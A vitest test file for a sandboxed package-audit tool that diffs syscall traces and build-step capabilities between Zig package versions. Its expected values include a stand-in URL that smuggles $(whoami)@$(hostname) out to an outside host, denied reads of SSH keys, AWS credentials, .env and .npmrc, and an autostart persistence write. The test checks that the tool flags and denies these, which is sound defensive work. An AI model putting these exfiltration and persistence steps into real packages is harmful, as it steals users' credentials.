import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadPackage } from '../cli/package-loader.ts';
import { interpEngine } from '../interp/index.ts';
import type { TraceRecord } from '../wasi-vfs/trace.ts';
import { auditPolicy } from './default-policy.ts';
import { diffAudits, diffTraces, syscallKey, syscallLabel } from './diff.ts';
import { runAudit } from './run-audit.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');

async function audit(name: string) {
  const policy = auditPolicy();
  const { fs } = await loadPackage(path.join(ROOT, 'examples', name), policy);
  return runAudit({ fs, policy, engine: interpEngine });
}

const rec = (seq: number, fn: string, args: TraceRecord['args'], errno = 'success', extra: Partial<TraceRecord> = {}): TraceRecord => ({ seq, fn, args, errno, ...extra });

describe('syscall keys', () => {
  it('ignore seq, fd numbers, sizes and moved data, but keep paths, flags, errno and rules', () => {
    const a = rec(3, 'path_open', { fd: { fd: 3, path: '.' }, path: 'src/a.zig', oflags: [] }, 'success', { out: { fd: 4 } });
    const b = rec(9, 'path_open', { fd: { fd: 5, path: '.' }, path: 'src/a.zig', oflags: [] }, 'success', { out: { fd: 6 } });
    expect(syscallKey(a)).toBe(syscallKey(b));
    const w1 = rec(7, 'fd_write', { fd: { fd: 1, path: '<stdout>' } }, 'success', { bytes: 4096, data: { text: '{' } });
    const w2 = rec(8, 'fd_write', { fd: { fd: 1, path: '<stdout>' } }, 'success', { bytes: 12, data: { text: 'x' } });
    expect(syscallKey(w1)).toBe(syscallKey(w2));
    expect(syscallKey(a)).not.toBe(syscallKey({ ...b, args: { ...b.args, path: 'src/b.zig' } }));
    expect(syscallKey(a)).not.toBe(syscallKey({ ...b, errno: 'noent' }));
    const denied = { ...b, errno: 'acces', decisions: [{ op: 'read', path: 'src/a.zig', verdict: 'deny' as const, rule: 'no-src' }] };
    expect(syscallKey(denied)).toMatch(/read:src\/a\.zig:deny:no-src/);
    expect(syscallLabel(denied)).toBe('path_open src/a.zig -> acces');
  });

  it('compare traces as sets of keys, counting repeats', () => {
    const open = (seq: number, p: string) => rec(seq, 'path_open', { fd: { fd: 3, path: '.' }, path: p });
    const d = diffTraces([open(0, 'a'), open(1, 'b')], [open(0, 'b'), open(1, 'c'), open(2, 'c'), open(3, 'b')]);
    expect(d.added.map((c) => [c.label, c.countA, c.countB])).toEqual([['path_open c -> success', 0, 2]]);
    expect(d.removed.map((c) => [c.label, c.countA, c.countB])).toEqual([['path_open a -> success', 1, 0]]);
  });
});

describe('diffAudits on the examples', () => {
  it('g-v1 -> g-v2: the one added step, its denied exec and net requests', async () => {
    const [a, b] = await Promise.all([audit('g-v1'), audit('g-v2')]);
    const d = diffAudits(a, b);
    const g = d.graph!;
    expect(g.added.map((id) => [b.graph!.steps[id].name, b.graph!.steps[id].kind])).toEqual([['check zig version', 'run']]);
    expect(g.removed).toEqual([]);
    expect(g.capsAdded.map((c) => `${c.cap.kind} ${c.cap.target}`)).toEqual([
      'exec sh',
      'net https://zig-mirror.example.io/v?u=$(whoami)@$(hostname)',
    ]);
    expect(d.capsAddedDenied.map((c) => c.rule)).toEqual(['capabilities.default', 'capabilities.default']);
    // The library compile now depends on the new step.
    expect(g.changed.map((c) => [b.graph!.steps[c.after].name, c.changed])).toEqual([['zig build-lib leftpad Debug native', ['deps']]]);
    // v2's extra logic lives in the graph; configure makes no new kind of syscall.
    expect(d.syscalls.added).toEqual([]);
    expect(d.regressed).toBe(true);
  });

  it('a package diffed with itself has no changes', async () => {
    const [a, b] = await Promise.all([audit('g-v1'), audit('g-v1')]);
    const d = diffAudits(a, b);
    expect(d.graph).toMatchObject({ added: [], removed: [], changed: [], capsAdded: [] });
    expect(d.syscalls).toEqual({ added: [], removed: [] });
    expect(d.regressed).toBe(false);
  });

  it('new configure-time syscalls show with their denials (a-hello-lib -> c-exfiltrate)', async () => {
    const [a, b] = await Promise.all([audit('a-hello-lib'), audit('c-exfiltrate')]);
    const d = diffAudits(a, b);
    expect(d.syscallDenialsAdded.map((c) => c.label)).toEqual([
      'path_open root/.ssh/id_rsa -> acces',
      'path_open root/.aws/credentials -> acces',
      'path_open ../.env -> perm',
      'path_open ../../.npmrc -> perm',
      'path_open ../.cache-loot [creat,trunc] -> perm',
      'path_open /root/.config/autostart/tiny.desktop [creat,trunc] -> perm',
    ]);
    expect(d.syscallDenialsAdded[0].record.decisions).toEqual([
      { op: 'read', path: 'root/.ssh/id_rsa', guestPath: '/root/.ssh/id_rsa', verdict: 'deny', rule: 'deny-host-paths' },
    ]);
    expect(d.capsAddedDenied.length).toBe(4);
  });
});
